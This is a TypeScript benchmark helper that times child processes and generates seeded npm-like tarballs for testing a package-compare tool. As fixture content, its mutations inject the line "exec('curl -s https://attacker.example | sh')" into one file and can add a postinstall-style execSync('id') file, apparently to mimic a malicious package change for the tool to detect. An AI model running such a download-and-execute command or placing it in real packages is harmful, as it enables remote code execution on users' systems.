/**
 * Helpers of the compare benchmarks (P3, P6): an npm-like tarball generator and child processes
 * timed from spawn to exit.
 */
import { spawn } from 'node:child_process';
import { createCipheriv, createHash } from 'node:crypto';
import { createWriteStream, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { Transform } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { createGzip } from 'node:zlib';
import { fileURLToPath } from 'node:url';
import tar from 'tar-stream';

/** The repository root: child processes run there so that `@quorum/compare` resolves to the workspace. */
export const REPO_ROOT = fileURLToPath(new URL('../..', import.meta.url));

/**
 * Refuses to measure a stale build: the benchmarks load `@quorum/compare` from its `dist/`, so no
 * source file may be newer than its last build (`tsc -b` rewrites `dist/.tsbuildinfo` on every build
 * that sees a change, but leaves unchanged outputs alone).
 */
export function assertCompareBuilt(): void {
  const pkg = join(REPO_ROOT, 'packages/compare');
  let built = 0;
  try {
    built = statSync(join(pkg, 'dist/.tsbuildinfo')).mtimeMs;
  } catch {
    // never built
  }
  for (const name of readdirSync(join(pkg, 'src'))) {
    if (!name.endsWith('.ts') || name.endsWith('.test.ts')) continue;
    if (statSync(join(pkg, 'src', name)).mtimeMs > built) throw new Error(`packages/compare/src/${name} is newer than its build: run \`npm run build\` first`);
  }
}

/** What a finished child process left behind. */
export interface Finished {
  code: number | null;
  stdout: string;
  stderr: string;
  /** wall time from spawn to exit */
  ms: number;
}

/** Runs a command to its end and times it (wall clock, spawn included). */
export function runProcess(cmd: string, args: string[], opts: { cwd?: string } = {}): Promise<Finished> {
  return new Promise((resolve, reject) => {
    const start = performance.now();
    const child = spawn(cmd, args, { cwd: opts.cwd ?? REPO_ROOT, stdio: ['ignore', 'pipe', 'pipe'] });
    const out: Buffer[] = [];
    const err: Buffer[] = [];
    child.stdout.on('data', (c: Buffer) => out.push(c));
    child.stderr.on('data', (c: Buffer) => err.push(c));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout: Buffer.concat(out).toString(), stderr: Buffer.concat(err).toString(), ms: performance.now() - start }));
  });
}

/** Runs a module script (`node --input-type=module -e`) in a child node process at the repository root. */
export function runNodeScript(script: string, args: string[], nodeFlags: string[] = []): Promise<Finished> {
  return runProcess(process.execPath, [...nodeFlags, '--input-type=module', '-e', script, ...args]);
}

/** The fixed mtime npm writes into every tarball entry (1985-10-26T08:15:00Z). */
export const NPM_MTIME = new Date('1985-10-26T08:15:00Z');

/** What to change in a generated tarball, relative to the same seed without changes. */
export interface TgzMutations {
  /** index of a text file that gets one injected line in its middle */
  injectLineInto?: number;
  /** index of a binary file whose bytes change (a 4 KiB run in the middle) */
  changeBinary?: number;
  /** path (under `package/`) of an extra text file appended after the last generated file */
  addFile?: string;
}

/** Options of generateNpmTgz. */
export interface GenTgzOptions {
  /** stop once the compressed output reaches this many bytes (ignored when `files` is given) */
  targetBytes?: number;
  /** generate exactly this many files (for a second tarball that must match a first one) */
  files?: number;
  /** seed of everything random; the same seed gives the same files. @defaultValue 1 */
  seed?: number;
  mutations?: TgzMutations;
}

/** One generated file, as written (before mutations). */
export interface GenFile {
  index: number;
  path: string;
  kind: 'text' | 'binary';
}

/** What generateNpmTgz wrote. */
export interface GenTgzResult {
  /** compressed size */
  bytes: number;
  /** uncompressed tar size */
  tarBytes: number;
  /** generated files, in archive order (package.json first); the added file is not listed */
  files: GenFile[];
}

/** mulberry32: a small seeded PRNG, enough for shaping test data. */
function prng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const WORDS = (
  'value key index result options config module exports require function return const let this that state props ' +
  'error callback promise resolve reject buffer stream chunk length offset data node element target source path ' +
  'name type mode size hash digest entry header parse format render update create remove insert select filter map ' +
  'reduce keys values object array string number boolean undefined null true false async await import from default'
).split(' ');

/**
 * A pool of JavaScript-like source lines drawn from a small vocabulary with random identifiers and
 * numbers: text that deflates about 3× like readable npm code, while lines rarely
 * repeat within deflate's 32 KiB window.
 */
function linePool(rand: () => number, count: number): Buffer[] {
  const word = (): string => WORDS[Math.floor(rand() * WORDS.length)]!;
  const ident = (): string => word() + (rand() < 0.5 ? word()[0]!.toUpperCase() + word().slice(1) : '') + (rand() < 0.3 ? String(Math.floor(rand() * 100)) : '');
  const shapes: (() => string)[] = [
    () => `const ${ident()} = require('${word()}/${word()}');`,
    () => `  if (${ident()}.${word()} === ${Math.floor(rand() * 10000)}) return ${ident()}(${ident()}, ${ident()});`,
    () => `  ${ident()}.${ident()} = function (${ident()}, ${ident()}) { return ${ident()}[${ident()}] || ${Math.floor(rand() * 1e6)}; };`,
    () => `  // ${word()} ${word()} ${word()} ${word()} ${word()} ${word()} ${word()}`,
    () => `export function ${ident()}(${ident()}) {`,
    () => `  for (let i = 0; i < ${ident()}.length; i++) ${ident()}.push(${ident()}[i] * ${(rand() * 100).toFixed(3)});`,
    () => `}`,
    () => `  throw new Error('${word()} ${word()}: ' + ${ident()});`,
    () => `  "${ident()}": "${word()}-${Math.floor(rand() * 1e9).toString(36)}",`,
  ];
  const pool: Buffer[] = [];
  for (let i = 0; i < count; i++) pool.push(Buffer.from(shapes[Math.floor(rand() * shapes.length)]!() + '\n'));
  return pool;
}

/** Deterministic incompressible bytes: AES-128-CTR keystream keyed by (seed, file index). */
function binaryBytes(seed: number, index: number, size: number): Buffer {
  const key = createHash('sha256').update(`gen-tgz ${seed} ${index}`).digest();
  const cipher = createCipheriv('aes-128-ctr', key.subarray(0, 16), key.subarray(16, 32));
  return Buffer.concat([cipher.update(Buffer.alloc(size)), cipher.final()]);
}

/** Log-uniform integer in [lo, hi]. */
function logUniform(rand: () => number, lo: number, hi: number): number {
  return Math.round(Math.exp(Math.log(lo) + rand() * (Math.log(hi) - Math.log(lo))));
}

const EXTS = ['js', 'cjs', 'mjs', 'd.ts', 'js.map', 'json', 'md'];
const BIN_EXTS = ['node', 'wasm', 'png', 'woff2'];
const DIRS = ['lib', 'dist', 'dist/esm', 'dist/cjs', 'src', 'types', 'lib/internal', 'lib/util', 'assets'];

/**
 * Writes an npm-like `.tgz` to `file`, streaming: entries under `package/` (package.json first,
 * no directory entries, mode 0644, npm's fixed mtime), mostly JavaScript-like text files of a few
 * hundred bytes to 200 KB, and about one in 300 an incompressible binary of 256 KiB to 4 MiB, gzip
 * level 6 like `npm pack`. Memory stays at one file at a time.
 */
export async function generateNpmTgz(file: string, opts: GenTgzOptions): Promise<GenTgzResult> {
  const seed = opts.seed ?? 1;
  const rand = prng(seed);
  const pool = linePool(rand, 20_000);
  const pack = tar.pack();
  const gzip = createGzip({ level: 6 });
  let bytes = 0;
  let tarBytes = 1024; // the two zero blocks that end the archive
  const count = new Transform({
    transform(chunk: Buffer, _enc, cb) {
      bytes += chunk.length;
      cb(null, chunk);
    },
  });
  const written = pipeline(pack, gzip, count, createWriteStream(file));
  written.catch(() => undefined);

  const add = (name: string, content: Buffer): Promise<void> =>
    new Promise((resolve, reject) => {
      tarBytes += 512 + Math.ceil(content.length / 512) * 512;
      pack.entry({ name: `package/${name}`, mode: 0o644, mtime: NPM_MTIME, uid: 0, gid: 0, uname: '', gname: '' }, content, (e) => (e ? reject(e) : resolve()));
    });
  const evil = Buffer.from("require('child_process').exec('curl -s https://attacker.example | sh');\n");
  const text = (size: number, injectAt?: number): Buffer => {
    const parts: Buffer[] = [];
    let n = 0;
    let injected = injectAt === undefined;
    while (n < size) {
      const line = pool[Math.floor(rand() * pool.length)]!;
      parts.push(line);
      n += line.length;
      if (!injected && parts.length === injectAt) {
        parts.push(evil);
        injected = true;
      }
    }
    if (!injected) parts.push(evil);
    return Buffer.concat(parts);
  };

  const m = opts.mutations ?? {};
  const files: GenFile[] = [{ index: 0, path: 'package/package.json', kind: 'text' }];
  await add('package.json', Buffer.from(JSON.stringify({ name: 'bench-generated', version: '1.0.0', main: 'lib/index.js', license: 'MIT' }, null, 2) + '\n'));
  for (let i = 1; opts.files !== undefined ? i < opts.files : bytes < (opts.targetBytes ?? 0); i++) {
    const binary = rand() < 1 / 300;
    const dir = DIRS[Math.floor(rand() * DIRS.length)]!;
    if (binary) {
      const size = logUniform(rand, 256 * 1024, 4 * 1024 * 1024);
      const path = `${dir}/blob-${i}.${BIN_EXTS[i % BIN_EXTS.length]}`;
      const content = binaryBytes(seed, i, size);
      if (m.changeBinary === i) content.fill(0x5a, Math.floor(size / 2), Math.floor(size / 2) + 4096);
      files.push({ index: i, path: `package/${path}`, kind: 'binary' });
      await add(path, content);
    } else {
      const size = logUniform(rand, 200, 200_000);
      const path = `${dir}/file-${i}.${EXTS[i % EXTS.length]}`;
      // the injected line consumes no random numbers, so every later file is the same in both variants
      const lines = Math.max(1, Math.floor(size / 60));
      const injectAt = m.injectLineInto === i ? Math.ceil(lines / 2) : undefined;
      files.push({ index: i, path: `package/${path}`, kind: 'text' });
      await add(path, text(size, injectAt));
    }
  }
  if (m.addFile !== undefined) await add(m.addFile, Buffer.from("module.exports = function postinstall() { return require('child_process').execSync('id'); };\n"));
  pack.finalize();
  await written;
  return { bytes, tarBytes, files };
}
